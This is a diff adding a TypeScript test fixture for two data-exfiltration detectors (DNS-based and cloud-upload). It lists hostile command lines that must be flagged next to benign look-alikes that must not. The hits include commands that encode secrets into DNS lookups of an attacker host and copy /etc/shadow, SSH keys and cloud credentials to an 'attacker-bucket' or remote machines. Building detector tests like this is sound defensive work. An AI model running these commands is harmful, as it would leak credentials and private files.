@@ -1,0 +1,67 @@
+import { miss } from '../sample.ts';
+import { host, line, type RiskSamples } from './line.ts';
+
+export const exfiltrationSamples: readonly RiskSamples[] = [
+  {
+    detector: 'dns-exfiltration',
+    hits: [
+      line('output in a name', `dig $(cat secret | xxd -p).${host}`),
+      line('output in a name, old quotes', `nslookup \`whoami\`.${host}`),
+      line('output in a name that is pinged', `ping -c 1 "$(id | base64 | head -c 32).${host}"`),
+      line('a loop', `xxd -p x | while read line; do dig $line.${host}; done`),
+      line('a variable', `dig +short "\${chunk}.${host}"`),
+      line('Python', `socket.gethostbyname(f"{data}.${host}")`),
+      line('Python, joined', `socket.gethostbyname(chunk.hex() + ".${host}")`),
+      line('Python, a resolver', `dns.resolver.resolve(f"{enc}.${host}", "TXT")`),
+      line('JavaScript', `dns.lookup(\`\${hex}.${host}\`, () => {})`),
+      line('JavaScript, joined', `dns.resolve(part + '.${host}', cb)`),
+      line('Go', `net.LookupHost(enc + ".${host}")`),
+      line('Go, a format', `net.LookupHost(fmt.Sprintf("%s.${host}", enc))`),
+      line('PowerShell', `Resolve-DnsName "$enc.${host}"`),
+      line('a tunnel', `dnscat2 --dns server=${host}`),
+      line('Kubernetes', `command: ["sh", "-c", "nslookup $(cat /x | base64).${host}"]`),
+      line('Dockerfile', `RUN dig $(hostname).${host}`),
+    ],
+    misses: [
+      miss('a name', 'dig +short example.com; nslookup -type=TXT example.com; ping -c 1 example.com'),
+      miss('one’s own name', 'socket.gethostbyname(socket.gethostname())'),
+      miss('a name from a list', 'while read h; do ping -c1 $h; done < hosts.txt'),
+      miss('a service', 'socket.gethostbyname(f"{name}.{ns}.svc.cluster.local")'),
+      miss('a variable', 'dig $DOMAIN; net.LookupHost(host); dns.lookup(hostname, cb)'),
+      miss('prose', 'Data can leave in names that a host asks for, e.g. by dig or nslookup.'),
+    ],
+  },
+  {
+    detector: 'cloud-upload',
+    hits: [
+      line('passwords', 'aws s3 cp /etc/passwd s3://attacker-bucket/'),
+      line('a home', 'aws s3 sync ~/Documents s3://x/'),
+      line('variables', 'aws s3 cp .env s3://x/env'),
+      line('a bucket with a telling name', 'aws s3 cp dump.sql s3://exfil-1/'),
+      line('Google', 'gsutil cp -r /home/me gs://x/'),
+      line('Azure', 'az storage blob upload --account-name x --container-name y --file ~/.ssh/id_rsa'),
+      line('rclone', 'rclone copy /home/me remote:x'),
+      line('another machine', `scp -r ~/.ssh me@${host}:/tmp/`),
+      line('another machine by rsync', `rsync -az /etc/ me@${host}:/x/`),
+      line('an archive through a login', `tar czf - /etc | ssh me@${host} 'cat > x.tgz'`),
+      line('Python', `s3.upload_file("/etc/passwd", "x", "y")`),
+      line('Python, Google', `blob.upload_from_filename("/etc/shadow")`),
+      line('JavaScript', `new PutObjectCommand({ Bucket: b, Key: k, Body: readFileSync('/etc/passwd') })`),
+      line('Go', `client.FPutObject(ctx, "x", "y", "/etc/passwd", opts)`),
+      line('a list of arguments', 'subprocess.run(["aws", "s3", "cp", "/etc/shadow", "s3://x/"])'),
+      line('Dockerfile', 'RUN aws s3 cp /root/.aws/credentials s3://x/'),
+    ],
+    misses: [
+      miss('what was built', 'aws s3 sync ./dist s3://my-site --delete; aws s3 cp build.zip s3://releases/'),
+      miss('a download', 'aws s3 cp s3://x/y .; gsutil cp gs://x/y /tmp/y; rclone copy remote:x ./x'),
+      miss('a list', 'aws s3 ls s3://x; az storage blob list'),
+      miss(
+        'a file of one’s own',
+        'scp -i ~/.ssh/id_rsa app.tgz me@example.com:/srv/; rsync -az ./dist/ me@example.com:/var/www/',
+      ),
+      miss('between folders', 'rsync -a ~/.config/x ./backup/'),
+      miss('Python, a report', 's3.upload_file("report.csv", "x", "y")'),
+      miss('prose', 'Upload the file to a bucket with aws s3 cp or gsutil.'),
+    ],
+  },
+];
